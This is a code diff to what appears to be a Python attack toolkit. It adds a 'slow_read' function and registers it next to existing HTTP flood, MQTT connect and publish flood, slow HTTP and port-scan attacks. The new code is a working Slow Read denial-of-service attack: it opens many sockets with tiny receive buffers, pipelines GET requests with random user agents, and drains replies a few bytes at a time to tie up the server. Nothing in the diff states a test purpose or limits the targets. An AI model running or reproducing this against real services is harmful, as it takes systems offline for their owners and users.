@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import socket
 import time
 from random import Random
 
@@ -171,6 +172,35 @@ async def slow_http(
         await asyncio.wait_for(asyncio.gather(*(hold() for _ in range(connections))), seconds)
 
 
+async def slow_read(
+    *, target: str, port: int, connections: int, interval: float, seconds: float, seed: int
+) -> None:
+    """Ask for pages on many connections and take the answers a few bytes at a time, with a tiny window."""
+    random, end, loop = Random(seed), time.monotonic() + seconds, asyncio.get_running_loop()
+
+    async def sip() -> None:
+        await asyncio.sleep(random.uniform(0, min(seconds / 3, connections / 30)))
+        while time.monotonic() < end:
+            with socket.socket() as opened, contextlib.suppress(*MISHAPS):
+                opened.setblocking(False)
+                opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, random.choice((512, 1024, 2048)))
+                await asyncio.wait_for(loop.sock_connect(opened, (target, port)), 5)
+                paths = random.choices(
+                    ("/", "/style.css", "/icon.png", "/snapshot.jpg"), k=random.randint(1, 6)
+                )
+                lines = (
+                    f"GET {path} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\n\r\n"
+                    for path in paths
+                )
+                await loop.sock_sendall(opened, "".join(lines).encode())
+                while time.monotonic() < end and await loop.sock_recv(opened, random.randint(4, 64)):
+                    await asyncio.sleep(interval * random.uniform(0.7, 1.3))
+            await asyncio.sleep(1)
+
+    with contextlib.suppress(TimeoutError):
+        await asyncio.wait_for(asyncio.gather(*(sip() for _ in range(connections))), seconds)
+
+
 async def connect_scan(
     *, targets: list[str], ports: list[int], rate: float, shuffled: bool, seed: int
 ) -> None:
@@ -196,4 +226,4 @@ async def connect_scan(
 
 
 if __name__ == "__main__":
-    start(http_flood, mqtt_connect_flood, mqtt_publish_flood, slow_http, connect_scan)
+    start(http_flood, mqtt_connect_flood, mqtt_publish_flood, slow_http, slow_read, connect_scan)
